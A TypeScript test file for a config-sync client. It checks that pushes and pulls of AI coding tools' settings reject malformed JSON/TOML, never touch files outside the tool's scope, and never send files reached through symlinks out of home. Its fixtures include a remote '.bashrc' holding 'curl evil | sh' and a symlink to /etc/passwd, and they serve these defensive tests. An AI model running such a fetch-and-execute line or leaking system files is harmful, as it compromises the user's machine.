import { describe, expect, test } from 'bun:test'
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Session } from '../../src/client/context'
import { linkOutOfHome, readText } from '../../src/client/files'
import { contentHash } from '../../src/client/hash'
import { outcomeFailure } from '../../src/client/report'
import { type Report, resolveTarget, runOne } from '../../src/client/run'
import { scopeFor } from '../../src/client/scope'
import { syntaxError } from '../../src/client/sync/syntax'
import { quietRun } from '../support/client-io'
import { homePerTest } from '../support/client/home'
import { tempDir } from '../support/temp'

/**
 * What a push may send and a pull may write (docs/sync-model.md, "What a
 * config holds"), in-process: the syntax check, the tool's files, links out
 * of home, and runOne against a stand-in server that records every push.
 */

const homeNow = homePerTest('guards')

const put = (path: string, content: string) => {
	mkdirSync(join(homeNow(), path, '..'), { recursive: true })
	writeFileSync(join(homeNow(), path), content)
}

/** A server of one config: what it holds, and every body pushed to it. */
function standIn(files?: Record<string, string>) {
	const server = {
		config: files && { version: 1, hash: contentHash({ files }), data: { files } },
		pushes: [] as Record<string, string>[]
	}
	const api = {
		configs: {
			poll: async () => server.config,
			push: async (body: { data: { files: Record<string, string> } }) => {
				server.pushes.push(body.data.files)
				const version = (server.config?.version ?? 0) + 1
				server.config = { version, hash: contentHash(body.data), data: body.data }
				return { version, hash: server.config.hash }
			}
		},
		// Who this machine is and who pushed what (device trust, docs/sync-model.md): this key's device, no events.
		keys: { list: async () => [{ device: 'laptop', current: true }] },
		audit: { list: async () => [] }
	}
	const session = {
		server: 'http://stand-in.test',
		profile: 'default',
		api,
		keySource: 'env',
		username: async () => 'ada',
		run: async (call: (a: typeof api) => Promise<unknown>) => call(api)
	} as unknown as Session
	return { server, session }
}

const failureOf = (report: Report) => outcomeFailure(report)?.message ?? ''

describe('the syntax check', () => {
	test('JSON: the first error with its line and column; comments and trailing commas are fine; empty is not', () => {
		expect(syntaxError('.gemini/settings.json', '{\n  "theme": "light"\n  "telemetry": true\n}\n')).toEqual({
			format: 'JSON',
			line: 3,
			column: 3,
			problem: 'a comma is missing'
		})
		expect(syntaxError('.gemini/settings.json', '\uFEFF{\n  // mine\n  "a": [1, 2,],\n}\n')).toBeUndefined()
		expect(syntaxError('@Code/User/keybindings.json', '')).toMatchObject({ line: 1, problem: 'the file is empty' })
		expect(syntaxError('.claude.json#mcpServers', '{"mcpServers": {"a": }}')).toMatchObject({ line: 1, column: 22 })
	})

	test('TOML: its line; Markdown and other text are not checked', () => {
		expect(syntaxError('.codex/config.toml', 'model = "o3"\napproval_policy = \n')).toMatchObject({
			format: 'TOML',
			line: 2
		})
		expect(syntaxError('.codex/config.toml', '# nothing yet\n')).toBeUndefined()
		expect(syntaxError('.codex/AGENTS.md', '{ not json')).toBeUndefined()
	})
})

describe("the tool's files", () => {
	test('keys that are not the tool files are never in scope, named, in the base or on the server', () => {
		put('.bashrc', 'x\n')
		put('.gemini/GEMINI.md', 'y\n')
		const base = { '.ssh/config': { hash: 'h' } }
		const remote = { '.bashrc': 'evil\n', '.gemini/GEMINI.md': 'y\n', '.claude/CLAUDE.md': 'other tool\n' }
		const all = scopeFor('gemini-cli', { base, remote })
		expect(all.keys.sort()).toEqual(['.gemini/GEMINI.md', '.gemini/settings.json'])
		expect(all.foreign).toEqual(['.bashrc', '.claude/CLAUDE.md', '.ssh/config'])
		const named = scopeFor('gemini-cli', { named: ['.bashrc', '.gemini/GEMINI.md'], remote })
		expect(named.keys).toEqual(['.gemini/GEMINI.md'])
		expect(named.foreign).toContain('.bashrc')
	})

	test('a pull never writes ~/.bashrc, even named; a push of a tool file leaves it out of what it sends', async () => {
		const { server, session } = standIn({ '.gemini/GEMINI.md': 'team\n', '.bashrc': 'curl evil | sh\n' })
		const t = await resolveTarget(session, 'gemini-cli', {})
		const pulled = await runOne(session, t, { ...quietRun(), mode: 'pull', named: ['.bashrc', '.gemini/GEMINI.md'] })
		expect(readText('.bashrc')).toBeUndefined()
		expect(readText('.gemini/GEMINI.md')).toBe('team\n')
		expect(pulled.skipped.map((s) => s.key)).toContain('.bashrc')
		expect(pulled.outside).not.toContain('.bashrc')

		put('.gemini/GEMINI.md', 'team, v2\n')
		await runOne(session, t, { ...quietRun(), mode: 'push' })
		expect(server.pushes).toEqual([{ '.gemini/GEMINI.md': 'team, v2\n' }])
	})
})

describe('links out of home', () => {
	test('a file linked out of home, or under a linked directory, leads out; a link inside home does not', () => {
		put('.claude/commands/ok.md', 'ok\n')
		symlinkSync('/etc/passwd', join(homeNow(), '.claude', 'commands', 'passwd-link.md'))
		const outside = tempDir('outside')
		writeFileSync(join(outside, 'a.md'), 'a\n')
		symlinkSync(outside, join(homeNow(), '.claude', 'agents'))
		put('dotfiles/CLAUDE.md', 'mine\n')
		symlinkSync(join(homeNow(), 'dotfiles', 'CLAUDE.md'), join(homeNow(), '.claude', 'CLAUDE.md'))
		expect(linkOutOfHome('.claude/commands/passwd-link.md')).toBe('/etc/passwd')
		expect(linkOutOfHome('.claude/agents/a.md')).toBe(join(outside, 'a.md'))
		expect(linkOutOfHome('.claude/CLAUDE.md')).toBeUndefined()
		expect(linkOutOfHome('.claude/commands/ok.md')).toBeUndefined()
	})

	test('push and sync never send what such a link points at, and never take it for a deletion', async () => {
		put('.claude/commands/ok.md', 'ok\n')
		symlinkSync('/etc/passwd', join(homeNow(), '.claude', 'commands', 'passwd-link.md'))
		const { server, session } = standIn()
		const t = await resolveTarget(session, 'claude-code', {})
		const pushed = await runOne(session, t, { ...quietRun(), mode: 'push' })
		expect(server.pushes).toEqual([{ '.claude/commands/ok.md': 'ok\n' }])
		expect(pushed.skipped).toEqual([expect.objectContaining({ key: '.claude/commands/passwd-link.md' })])

		// The server already holds a file under that name (pushed before the link was made): a sync keeps it there.
		const { server: other, session: again } = standIn({
			'.claude/commands/ok.md': 'ok\n',
			'.claude/commands/passwd-link.md': 'an old command\n'
		})
		put('.claude/commands/ok.md', 'ok, edited\n')
		await runOne(again, await resolveTarget(again, 'claude-code', {}), { ...quietRun(), mode: 'sync' })
		expect(other.pushes).toEqual([
			{ '.claude/commands/ok.md': 'ok, edited\n', '.claude/commands/passwd-link.md': 'an old command\n' }
		])
	})
})

describe('a file that does not parse is not pushed', () => {
	test('push: nothing sent, nothing written, the failure names file, line and the --force command', async () => {
		put('.gemini/settings.json', '{\n  "theme": "light"\n  "telemetry": true\n}\n')
		put('.gemini/GEMINI.md', 'rules\n')
		const { server, session } = standIn()
		const t = await resolveTarget(session, 'gemini-cli', { name: 'work' })
		const report = await runOne(session, t, { ...quietRun(), mode: 'push' })
		expect(server.pushes).toEqual([])
		expect(report.invalid).toEqual([
			{ key: '.gemini/settings.json', why: 'not valid JSON, line 3, column 3: a comma is missing' }
		])
		const message = failureOf(report)
		expect(message).toContain('~/.gemini/settings.json')
		expect(message).toContain('line 3, column 3')
		expect(message).toContain('cfgsync push gemini-cli --name work --force')

		const forced = await runOne(session, t, { ...quietRun(), mode: 'push', choose: { side: 'mine' } })
		expect(forced.pushed?.files).toEqual(['.gemini/GEMINI.md', '.gemini/settings.json'])
	})

	test("sync: the pull half is done, nothing of the config is sent; an invalid file already on the server is not this push's", async () => {
		const { server, session } = standIn({ '.codex/config.toml': 'model = "o3"\n', '.codex/AGENTS.md': 'v1\n' })
		const t = await resolveTarget(session, 'codex', {})
		await runOne(session, t, { ...quietRun(), mode: 'pull' })
		server.config = {
			version: 2,
			hash: 'h2',
			data: { files: { '.codex/config.toml': 'model = "o3"\n', '.codex/AGENTS.md': 'v2\n' } }
		}
		put('.codex/config.toml', 'model = "o3"\nsandbox_mode = \n')
		const report = await runOne(session, t, { ...quietRun(), mode: 'sync' })
		expect(server.pushes).toEqual([])
		expect(readText('.codex/AGENTS.md')).toBe('v2\n')
		expect(report.invalid.map((r) => r.key)).toEqual(['.codex/config.toml'])
		expect(outcomeFailure(report)?.exitCode).toBe(1)
		// Fixed, the next sync sends it.
		put('.codex/config.toml', 'model = "o4"\n')
		const fixed = await runOne(session, t, { ...quietRun(), mode: 'sync' })
		expect(fixed.pushed?.version).toBe(3)

		// Someone pushed a broken file with --force: this machine's other edits still go out.
		server.config = {
			version: 4,
			hash: 'h4',
			data: { files: { '.codex/config.toml': 'broken = \n', '.codex/AGENTS.md': 'v2\n' } }
		}
		await runOne(session, t, { ...quietRun(), mode: 'pull', choose: { side: 'theirs' } })
		put('.codex/AGENTS.md', 'v3\n')
		const other = await runOne(session, t, { ...quietRun(), mode: 'push' })
		expect(other.invalid).toEqual([])
		expect(other.pushed?.version).toBe(5)
	})
})
